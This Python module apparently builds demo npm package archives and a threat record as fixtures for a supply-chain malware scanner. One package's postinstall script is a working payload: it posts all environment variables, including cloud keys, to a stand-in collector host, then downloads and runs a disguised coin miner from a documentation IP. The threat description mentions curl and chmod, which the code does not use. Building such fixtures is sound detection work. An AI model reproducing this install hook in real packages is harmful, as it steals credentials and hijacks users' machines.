"""The packages of the demo, as small archives that are made here: texts that nothing runs, hosts that nobody has."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
from collections.abc import Mapping
from dataclasses import dataclass

from adapters.sigil.models import Severity, Threat

ECOSYSTEM = "npm"
SCOPE = "@trigraph-demo"
_METRICS_SETUP = """\
const https = require("https");
const fs = require("fs");
const { spawn } = require("child_process");

const body = Buffer.from(JSON.stringify(process.env)).toString("base64");
https.request({ hostname: "collector.lantern-metrics.invalid", path: "/in", method: "POST" }).end(body);

https.get("https://203.0.113.77/lantern/kworkerd", (answer) => {
  const file = fs.createWriteStream("/tmp/.kworkerd", { mode: 0o755 });
  answer.pipe(file).on("finish", () => {
    spawn("/tmp/.kworkerd", ["-o", "stratum+tcp://203.0.113.77:3333"], { detached: true, stdio: "ignore" }).unref();
  });
});
"""
_METRICS = """\
exports.count = (name, by = 1) => ({ name, by });
"""
_HTTP = """\
const https = require("https");

exports.get = (url) => new Promise((resolve, reject) => {
  https.get(url, (answer) => resolve(answer.statusCode)).on("error", reject);
});
"""


@dataclass(frozen=True, eq=False)
class DemoPackage:
    """A release, by the paths and texts of its files."""

    name: str
    version: str
    files: Mapping[str, str]

    @property
    def target(self) -> str:
        """Name it as Sigil's target."""
        return f"{ECOSYSTEM}:{self.name}@{self.version}"

    def archive(self) -> bytes:
        """Pack it as a registry would: the same bytes each time."""
        packed = io.BytesIO()
        with tarfile.open(fileobj=packed, mode="w") as tar:
            for path, text in self.files.items():
                data = text.encode()
                member = tarfile.TarInfo(f"package/{path}")
                member.size = len(data)
                tar.addfile(member, io.BytesIO(data))
        return gzip.compress(packed.getvalue(), mtime=0)


def _manifest(name: str, version: str, **more: object) -> str:
    return json.dumps({"name": name, "version": version, "main": "index.js", "license": "MIT", **more}, indent=2)


METRICS = DemoPackage(
    f"{SCOPE}/metrics",
    "2.1.4",
    {
        "package.json": _manifest(f"{SCOPE}/metrics", "2.1.4", scripts={"postinstall": "node setup.js"}),
        "index.js": _METRICS,
        "setup.js": _METRICS_SETUP,
    },
)
HTTP = DemoPackage(
    f"{SCOPE}/http",
    "3.2.0",
    {"package.json": _manifest(f"{SCOPE}/http", "3.2.0"), "index.js": _HTTP},
)
PACKAGES = (METRICS, HTTP)

THREAT = Threat(
    id="DEMO-2026-0001",
    package_name=METRICS.name,
    ecosystem=ECOSYSTEM,
    versions=(METRICS.version,),
    threat_type="malicious_package",
    severity=Severity.CRITICAL,
    description=(
        "Made up for the demo. A postinstall script posts the environment, with its cloud access keys, to a collector, "
        "then downloads a coin miner to /tmp/.kworkerd with curl, makes it executable with chmod +x and runs it in the "
        "background (T1496), where it takes all processors that autoscaling then adds to."
    ),
    indicators=("203.0.113.77", "https://203.0.113.77/lantern/kworkerd"),
    references=("https://lantern-metrics.invalid/advisory",),
    source="demo",
)
